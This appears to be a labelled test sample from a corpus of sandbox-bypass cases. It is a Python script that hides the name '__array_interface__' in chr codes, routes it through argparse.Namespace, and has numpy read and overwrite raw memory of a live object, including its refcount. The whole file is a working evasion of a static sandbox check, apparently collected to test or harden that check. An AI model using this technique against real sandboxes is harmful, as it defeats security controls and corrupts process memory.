# source: numpy array interface protocol (numpy docs 'The array interface protocol': data=(address, readonly) on the instance; sandexec README, "The static check", itself names __array_interface__ via argparse Namespace attributes); argparse.Namespace(**kwargs) sets attributes by the keys' names
# family: def's own **kwargs rebound by walrus, spread into argparse.Namespace -> __array_interface__ attribute
# goal: np.asarray(ns) views raw process memory at an address from repr(): reads 32 bytes of an object's header and beyond, writes its refcount
import argparse
import numpy as np
def s(*c):
    return "".join(map(chr, c))
class Box:
    pass
def mk():
    b = Box()
    addr = int(repr(b).split()[-1][:-1], 16)
    key = s(95, 95) + s(97,114,114,97,121,95,105,110,116,101,114,102,97,99,101) + s(95, 95)
    return b, {key: {"data": (addr, False), "shape": (32,), "typestr": "|u1", "version": 3}}
def g(**kw):
    (pair := mk())
    box = pair[0]
    (kw := pair[1])
    ns = argparse.Namespace(**kw)
    view = np.asarray(ns)
    print("raw bytes of a live object:", view.tolist())
    view[0] = view[0] + 1
    print("refcount byte written through it:", view[0])
g()
